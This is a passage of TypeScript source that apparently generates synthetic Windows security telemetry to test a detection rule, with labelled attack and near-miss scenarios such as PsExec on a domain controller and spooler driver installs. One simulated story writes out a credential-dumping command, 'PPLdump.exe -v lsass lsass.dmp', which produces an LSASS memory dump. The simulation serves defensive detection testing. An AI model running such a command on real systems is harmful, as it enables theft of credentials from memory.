    const cmd = a.run(s.explorer, t, EXE.cmd, '"C:\\Windows\\system32\\cmd.exe" ', { integrity: 'high' });
    const tool = a.run(cmd, (t += 40_000), malware('C:\\Users\\Public\\PPLdump.exe'), 'PPLdump.exe -v lsass lsass.dmp', { hashIdentity: 'demo-tool:ppldump', workingDirectory: 'C:\\Users\\Public\\' });
    const svc2 = a.run(tool, (t += 900), EXE.services, `C:\\Windows\\system32\\services.exe ${boot.lsass.pid} "lsass.dmp" a1b2c3d4-e5f6-4711-8899-aabbccddeeff`, { user: USERS.system, integrity: 'system' });
    a.load(svc2, (t += 200), 'C:\\Windows\\System32\\dbgcore.dll');
    c.markQuiet(a.create(svc2, (t += 1_400), 'C:\\Users\\Public\\lsass.dmp', { size: 52_428_800 }));
    a.end(svc2, (t += 600));
    a.end(tool, (t += 300));
    a.end(cmd, (t += 5 * MINUTE));
    logOffRdp(a, s, t + 2 * MINUTE);
    return { user: adm, at: t };
  },
};

function logOnRdp(a: Actor, host: ReturnType<typeof hostByName>, user: DemoUser, t: number, srcIp: string, srcWs: string): Session {
  const boot = a.sim.boot(host);
  const lid = logonId(a.rng);
  a.auth(host, t, { code: 4624, user, logonType: 10, logonId: lid, srcIp, srcWorkstation: srcWs, process: boot.winlogon, authPackage: 'Negotiate' });
  if (user.kind === 'admin') a.auth(host, t + 4, { code: 4672, user, logonType: 10, logonId: lid });
  const userinit = a.run(boot.winlogon, t + 1_500, EXE.userinit, 'C:\\Windows\\system32\\userinit.exe', { user, integrity: 'high', logonId: lid, sessionId: 2, workingDirectory: `C:\\Users\\${user.name}\\` });
  const explorer = a.run(userinit, t + 2_300, EXE.explorer, 'C:\\Windows\\Explorer.EXE');
  a.end(userinit, t + 9_000);
  return { host, user, start: t, end: null, logonId: lid, userinit, explorer, apps: {} };
}

function logOffRdp(a: Actor, s: Session, t: number): void {
  a.end(s.explorer, t - 1_000);
  a.auth(s.host, t, { code: 4634, user: s.user, logonType: 10, logonId: s.logonId });
}

const n2: StoryPlan = {
  id: 'python-writes-system-names',
  title: 'Near miss: python.exe writes files named lsass.exe and services.exe',
  host: 'ws-eng-07',
  expected: 'near-miss',
  description:
    'A developer builds test fixtures: python.exe writes lsass.exe, services.exe and a DLL. The writer is not a system-critical process, so the rule (which tests process.name, not file.name) must not fire.',
  run(c) {
    const { s, t: t0 } = inSession(c, 'ws-eng-07', 40 * HOUR, 3 * HOUR, HOUR);
    const a = c.a;
    let t = t0;
    const code = a.run(s.explorer, t, EXE.code, `"${EXE.code.path}"`);
    const cmd = a.run(code, (t += 60_000), EXE.cmd, 'C:\\Windows\\System32\\cmd.exe /d /s /c "python -m fixtures.build --out tests\\fixtures\\bin"', { workingDirectory: `C:\\Users\\${s.user.name}\\src\\triage-lab\\` });
    const py = a.run(cmd, (t += 400), EXE.python, 'python  -m fixtures.build --out tests\\fixtures\\bin');
    const dir = `C:\\Users\\${s.user.name}\\src\\triage-lab\\tests\\fixtures\\bin`;
    for (const f of ['lsass.exe', 'services.exe', 'winlogon.exe', 'helper.dll']) c.markQuiet(a.create(py, (t += 350), `${dir}\\${f}`, { size: 4_096 }));
    a.end(py, (t += 2_000));
    a.end(cmd, (t += 100));
    a.end(code, (t += 40 * MINUTE));
    return { user: s.user, at: t0 + 61_000 };
  },
};

const n3: StoryPlan = {
  id: 'spoolsv-driver-dlls',
  title: 'Near miss: spoolsv.exe installs printer driver DLLs',
  host: 'srv-print-01',
  expected: 'near-miss',
  description:
    'A new printer driver package is installed: spoolsv.exe writes DLLs under spool\\drivers. spoolsv.exe is not on the rule\'s list of critical processes.',
  run(c) {
    const a = c.a;
    const host = hostByName('srv-print-01');
    const boot = c.sim.boot(host);
    const sp = boot.daemons.spoolsv;
    if (!sp) throw new Error('demo: srv-print-01 has no spooler');
    let t = c.sim.now - 27 * HOUR - c.r.int(0, 90) * MINUTE;
    for (const f of ['PS5UI.DLL', 'PSCRIPT5.DLL', 'UNIDRV.DLL', 'acmeprt64.dll']) {
      c.markQuiet(a.create(sp, (t += c.r.int(100, 900)), `C:\\Windows\\System32\\spool\\drivers\\x64\\3\\${f}`, { size: c.r.int(60_000, 900_000) }));
    }
    return { user: USERS.system, at: t };
  },
};

const n4: StoryPlan = {
  id: 'no-host-os-type',
  title: 'Near miss: winlogon.exe writes a DLL on a host that does not report host.os.type',
  host: 'srv-print-01',
  expected: 'near-miss',
  description:
    "srv-print-01 ships Sysmon through a Winlogbeat 7 without add_host_metadata: its documents carry host.name only. winlogon.exe writing a DLL there matches every clause but host.os.type == \"windows\", so v111 cannot fire (a data-quality gap the normaliser closes for ingested files).",
  run(c) {
    const a = c.a;
    const host = hostByName('srv-print-01');
    const boot = c.sim.boot(host);
    const t = c.sim.now - 12 * HOUR - c.r.int(0, 60) * MINUTE;
    c.markQuiet(a.create(boot.winlogon, t, 'C:\\Windows\\System32\\wlnotify.dll', { size: 61_440 }));
    return { user: USERS.system, at: t };
  },
};

const n5: StoryPlan = {
  id: 'admin-psexec-dc',
  title: 'Near miss: admin PsExec on the DC — System writes PSEXESVC.exe, services.exe deletes it',
  host: 'dc-01',
  expected: 'near-miss',
  description:
    'An administrator runs PsExec against dc-01: the kernel (System, pid 4) writes C:\\Windows\\PSEXESVC.exe over SMB, services.exe starts it, and afterwards services.exe deletes it. Neither the System write nor the deletion may fire.',
  run(c) {
    const a = c.a;
    const r = c.r;
    const host = hostByName('dc-01');
    const boot = c.sim.boot(host);
    const adm = USERS.kwilsonAdm;
    let t = c.sim.now - 43 * HOUR - r.int(0, 60) * MINUTE;
    const lid = logonId(r);
    a.auth(host, t, { code: 4624, user: adm, logonType: 3, logonId: lid, srcIp: '10.20.1.37', srcWorkstation: 'ws-eng-07', authPackage: 'Kerberos' });
    a.auth(host, (t += 3), { code: 4672, user: adm, logonType: 3, logonId: lid });
    const bin = 'C:\\Windows\\PSEXESVC.exe';
    c.markQuiet(a.create(boot.system, (t += 900), bin, { size: 383_872 }));
    a.reg(boot.services, (t += 600), { path: 'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath', data: '%SystemRoot%\\PSEXESVC.exe', dataType: 'REG_EXPAND_SZ' });
    const svc = a.run(boot.services, (t += 400), { path: bin, signer: { subject: 'Microsoft Corporation', trusted: true, status: 'trusted' }, company: 'Sysinternals', description: 'PsExec Service', originalFileName: 'psexesvc.exe' }, 'C:\\Windows\\PSEXESVC.exe');
    const cmd = a.run(svc, (t += 1_200), EXE.cmd, '"cmd" /c repadmin /replsummary', { user: adm, integrity: 'high', logonId: lid });
    a.end(cmd, (t += 6_000));
    a.end(svc, (t += 1_000));
    c.markQuiet(a.remove(boot.services, (t += 1_500), bin));
    a.auth(host, (t += 2_000), { code: 4634, user: adm, logonType: 3, logonId: lid });
    return { user: adm, at: t };
  },
};

const n6: StoryPlan = {
  id: 'lsass-netlogon-log',
  title: 'Near miss: lsass.exe writes netlogon.log on the DC',
  host: 'dc-01',
  expected: 'near-miss',
  description: 'Netlogon runs inside lsass.exe, so debug logging makes lsass.exe write C:\\Windows\\debug\\netlogon.log and rotate netlogon.bak: critical writer, wrong extension.',
  run(c) {
    const a = c.a;
    const boot = c.sim.boot(hostByName('dc-01'));
    let t = c.sim.now - 20 * HOUR - c.r.int(0, 60) * MINUTE;
    c.markQuiet(a.create(boot.lsass, t, 'C:\\Windows\\debug\\netlogon.bak', { size: 20_971_520 }));
    c.markQuiet(a.create(boot.lsass, (t += 50), 'C:\\Windows\\debug\\netlogon.log', { size: 0 }));
    return { user: USERS.system, at: t };
  },
};

const n7: StoryPlan = {
  id: 'lsass-image-load-sysmon',
  title: 'Near miss: lsass.exe loads a DLL (a Sysmon image-load, not a file event)',
  host: 'ws-hr-03',
  expected: 'near-miss',
  description:
    'Sysmon event 7 puts the loaded DLL in file.path/file.extension, but its event.category is process: lsass.exe loading a DLL is not an executable file creation.',
  run(c) {
    const a = c.a;
    const boot = c.sim.boot(hostByName('ws-hr-03'));
    let t = c.sim.now - 9 * HOUR - c.r.int(0, 60) * MINUTE;
    for (const d of ['C:\\Windows\\System32\\wdigest.dll', 'C:\\Windows\\System32\\cryptdll.dll']) {
      c.markQuiet(a.load(boot.lsass, (t += c.r.int(100, 5_000)), d));
    }
    return { user: USERS.system, at: t };
  },
};

export const STORY_PLANS: readonly StoryPlan[] = [s1, s1b, s2, s2b, s3, s4, s5, n1, n2, n3, n4, n5, n6, n7];

/** Run every story; each has its own random stream, so ids do not depend on the background size. */
export function runStories(sim: Sim, seed: number): { stories: DemoStory[]; events: StoredEvent[] } {
  const shared: Shared = { lateralStart: 0, finLure: null, lateralWrite: 0 };
  const stories: DemoStory[] = [];
  const events: StoredEvent[] = [];
  for (const plan of STORY_PLANS) {
    const a = new Actor(sim, Rng.stream(seed, `story:${plan.id}`), Rng.stream(seed, `story-ids:${plan.id}`));
    const c = new StoryCtx(a, sim, shared);
    const res = plan.run(c);
    if (!res) continue;
    const sorted = [...a.events].sort((x, y) => ts(x) - ts(y));
    stories.push({
      id: plan.id,
      title: plan.title,
      host: plan.host,
      user: `${res.user.domain}\\${res.user.name}`,
      expected: plan.expected,
      mustFire: c.fire.map(keyRef),
      mustNotFire: c.quiet.map(keyRef),
      events: sorted.map(ref),
      at: new Date(c.fire[0] ? ts(c.fire[0]) : res.at).toISOString(),
      description: plan.description,
    });
    events.push(...a.events);
  }
  return { stories, events };
}

export function ts(ev: StoredEvent): number {
  const v = ev._source['@timestamp'];
  return typeof v === 'string' ? Date.parse(v) : 0;
}
